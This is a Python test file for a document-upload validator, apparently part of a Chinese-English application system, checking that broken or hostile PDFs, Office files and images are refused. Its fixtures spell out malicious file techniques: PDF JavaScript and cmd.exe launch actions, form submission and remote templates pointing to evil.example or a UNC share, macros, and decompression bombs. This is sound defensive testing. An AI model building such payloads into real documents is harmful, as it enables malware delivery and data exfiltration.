"""What a file is, is read from its content; what is hostile or broken is refused with a reason and leaves nothing."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from PIL import Image

from qtb.documents import typesetting, upload_pdf, uploads
from qtb.domain.errors import Refusal
from qtb.domain.fields import FieldSpec
from qtb.domain.files import Looked
from qtb.domain.workflow import Text
from tests import crafted, files

ALL = FieldSpec(
    type="file", label=Text(zh="件", en="file"), accept=["pdf", "docx", "pptx", "xlsx", "jpg", "png"], max_mb=1,
    max_pages=3,
)  # fmt: skip


def look(body: bytes, name: str = "a.pdf", spec: FieldSpec = ALL) -> Looked:
    """Take a file in."""
    with uploads.received(io.BytesIO(body), name, spec) as (path, looked):
        assert path.read_bytes() == body
        return looked


def refused(body: bytes, name: str = "a.pdf", spec: FieldSpec = ALL) -> str:
    """Return why a file is refused."""
    with pytest.raises(Refusal) as caught:
        look(body, name, spec)
    assert 400 <= caught.value.status < 500
    return caught.value.key


def test_sound_files_are_known_by_their_content() -> None:
    found = look(files.pdf(3), "申报书.docx")
    assert (found.name, found.kind, found.n_pages) == ("申报书.docx.pdf", "pdf", 3)
    body = files.word()
    assert look(body).sha256 == hashlib.sha256(body).hexdigest()
    assert look(files.word(), "申报书.docx").name == "申报书.docx"
    assert [look(files.picture(kind)).kind for kind in ("PNG", "JPEG")] == ["png", "jpg"]


HOSTILE = {
    "nothing": (b"", "file_empty"),
    "page": (b"<html><script>alert(1)</script></html>", "file_unknown"),
    "program": (b"MZ\x90\x00" + bytes(500), "file_unknown"),
    "head of a pdf, then a page": (b"%PDF-1.7\n<html><script>alert(1)</script></html>", "file_broken"),
    "head and tail of a pdf, then a page": (b"%PDF-1.7\n<html></html>\n%%EOF", "file_broken"),
    "cut pdf": (files.pdf()[:-40], "file_broken"),
    "locked pdf": (files.locked_pdf(), "file_encrypted"),
    "pdf and zip": (files.with_entry(files.pdf(), "a", b"b") + b"%%EOF", "file_two"),
    "too many pages": (files.pdf(4), "file_pages"),
    "macros": (files.macros(), "file_macros"),
    "bomb": (files.bomb(), "file_bomb"),
    "entities": (files.entities(), "file_broken"),
    "cut word": (files.word()[:-200], "file_broken"),
    "any zip": (files.with_entry(b"PK\x05\x06" + bytes(18), "a", b"b"), "file_unknown"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file_old_office"),
    "huge picture": (files.huge_picture(), "file_bomb"),
    "cut picture": (files.picture()[:-20], "file_broken"),
    "encrypted pdf": (crafted.encrypted("secret"), "file_encrypted"),
    "pdf that is encrypted and opens for all": (crafted.encrypted(""), "file_encrypted"),
    "pdf of no pages": (crafted.claiming(0, 0), "file_broken"),
    "pdf that says 10,000 pages and has one": (crafted.claiming(10_000, 1), "file_broken"),
    "pdf that says one page and has nine": (crafted.claiming(1, 9), "file_broken"),
    "pdf of less than no pages": (crafted.claiming(-3, 9), "file_pages"),
    "pdf with a script": (crafted.scripted(), "file_active"),
    "pdf with a script at its opening": (crafted.opening(), "file_active"),
    "pdf that starts a program": (crafted.opening("<</S/Launch/F(cmd.exe)>>"), "file_active"),
    "pdf with a script at its end": (crafted.one_page(f"/AA<</WC {crafted.SCRIPT}>>"), "file_active"),
    **{f"pdf with {what}": (body, "file_active") for what, body in {
        "a script in a file without a table": crafted.without_table(crafted.opening()),
        "a script when its page opens": crafted.page_with(f"/AA<</O {crafted.SCRIPT}>>"),
        "a script in a broken object": crafted.one_page("/A 4 0 R", "<</S/Java#53cript/JS(1)"),
        "a script at a click": crafted.clicked(crafted.SCRIPT),
        "a script in an object of its own": crafted.one_page("/OpenAction 4 0 R", crafted.SCRIPT),
        "a script spelt in signs": crafted.opening("<</S/J#61vaScript/J#53(1)>>"),
        "a script after a harmless step": crafted.clicked("<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", crafted.SCRIPT),
        "a script in a list of next steps": crafted.clicked(f"<</S/Named/N/NextPage/Next[{crafted.SCRIPT}]>>"),
        "a script in a packed object": crafted.in_a_stream(),
        "a script in a field": crafted.one_page(
            "/AcroForm<</Fields[4 0 R]>>", "<</FT/Tx/T(a)/Kids[5 0 R]>>", f"<</T(b)/AA<</K {crafted.SCRIPT}>>>>"
        ),
        "a script in an outline": crafted.one_page("/Outlines<</First 4 0 R>>", f"<</Title(a)/A {crafted.SCRIPT}>>"),
        "a script deep among its names": crafted.one_page(
            "/Names<</JavaScript<</Kids[4 0 R]>>>>", f"<</Names[(a) {crafted.SCRIPT}]>>"
        ),
        "a script as an address": crafted.clicked("<</S/URI/URI(java\nscript:alert(1))>>"),
        "an address that it opens by itself": crafted.opening("<</S/URI/URI(https://evil.example)>>"),
        "a program at a click": crafted.clicked("<</S/Launch/F(cmd.exe)>>"),
        "a form that is sent off": crafted.clicked("<</S/SubmitForm/F(https://evil.example)>>"),
        "a form that reads a file": crafted.clicked("<</S/ImportData/F(a.fdf)>>"),
        "a film": crafted.page_with("/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]"),
        "a form of another kind": crafted.one_page("/AcroForm<</XFA 4 0 R>>", "<</Length 0>>stream\n\nendstream"),
        "a file on a page": crafted.page_with(
            "/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>]",
            "<</Length 2>>stream\nMZ\nendstream",
        ),
    }.items()},
    "pdf with another file": (crafted.packed_pdf(), "file_active"),
    "renamed docm": (crafted.renamed_docm(), "file_macros"),
    "macros under another name": (crafted.hidden_macros(), "file_macros"),
    "template from the net": (crafted.linked("https://evil.example/t.dotm"), "file_elsewhere"),
    "template from the net, spelt in references": (crafted.linked("&#104;ttps://evil.example/t"), "file_elsewhere"),
    "template from another machine": (crafted.linked(r"\\evil\share\t.dotm"), "file_elsewhere"),
    "template from another machine as a file": (crafted.linked(r"file:///\\evil\share\t.dotm"), "file_elsewhere"),
    "picture from the net": (crafted.linked("https://evil.example/p.png", "image"), "file_elsewhere"),
    "bomb in an archive in a document": (crafted.nested_bomb(), "file_bomb"),
    "entry larger than it says": (crafted.lying_zip(), "file_broken"),
    "very many entries": (crafted.crowded(), "file_bomb"),
    "word and pdf": (crafted.word_that_begins(files.pdf()), "file_two"),
    "jpeg and pdf": (crafted.jpeg_with(files.pdf()), "file_two"),
    "png and zip": (files.with_entry(files.picture(), "a", b"b"), "file_two"),
    "png and page": (files.picture() + b"<script>alert(1)</script>", "file_broken"),
    "huge jpeg": (crafted.huge_jpeg(), "file_bomb"),
    "cut jpeg": (files.picture("JPEG")[:-100], "file_broken"),
    "png with a packed remark": (crafted.bloated_png(), "file_broken"),
    "svg with a script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "file_unknown"),
    "large": (files.pdf() + bytes(1024 * 1024), "file_large"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_or_broken_file_is_refused(what: str) -> None:
    body, why = HOSTILE[what]
    assert refused(body) == why


def test_a_field_takes_its_kinds_only() -> None:
    assert refused(files.picture(), "report.pdf", ALL.model_copy(update={"accept": ["pdf"]})) == "file_kind"


SOUND = {
    "links": crafted.linked("https://example.org", "hyperlink"),
    "template of its writer's own machine": crafted.linked("file:///C:\\Users\\a\\报告.dotx"),
    "template beside it": crafted.linked("报告.dotx"),
    "table in a document": files.with_entry(files.word(), "word/embeddings/a.docx", files.word()),
    "opens at a page": crafted.one_page("/OpenAction[3 0 R/Fit]"),
    "three pages as it says": crafted.claiming(3, 3),
    "leads to a page and to the net": crafted.clicked(
        "<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://example.org)>>>>"
    ),
    "names an object that is not there": crafted.one_page("/Outlines 9 0 R/Names<</Dests 8 0 R>>"),
    "no table": crafted.without_table(crafted.claiming(1, 1)),
    "a field to fill in": crafted.one_page("/AcroForm<</Fields[4 0 R]>>", "<</FT/Tx/T(a)/V(b)>>"),
}


@pytest.mark.parametrize("what", SOUND)
def test_what_only_looks_hostile_is_taken(what: str) -> None:
    look(SOUND[what])


def test_a_pdf_that_nobody_can_look_into_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.pdf").write_bytes(b"%PDF-1.7\n%%EOF")
    assert upload_pdf.fault(tmp_path / "a.pdf", 1) == "file_broken"


def test_what_honest_programs_make_is_taken() -> None:
    paper = {"title": "甲", "programme": "乙", "unit": "丙", "number": "1", "foot": "", "groups": []}
    assert look(typesetting.pdf("form", paper)).n_pages == 1
    scanned = io.BytesIO()
    pages = [Image.new("RGB", (600, 800), colour) for colour in ("white", "grey")]
    pages[0].save(scanned, "PDF", save_all=True, append_images=pages[1:])
    assert look(scanned.getvalue()).n_pages == 2


def test_a_page_after_the_end_of_a_pdf_stays_a_pdf() -> None:
    """It is handed out as a PDF to be saved, never as a page; see the headers."""
    assert look(files.pdf() + b"<script>alert(1)</script>%%EOF").kind == "pdf"


def test_how_many_pages_a_word_file_says_is_told_as_what_it_says() -> None:
    found = look(crafted.pages_claimed(57))
    assert (found.n_pages, found.n_claimed) == (None, 57)
    assert look(crafted.pages_claimed(10**9)).n_claimed is None
    assert look(files.pdf(2)).n_claimed is None
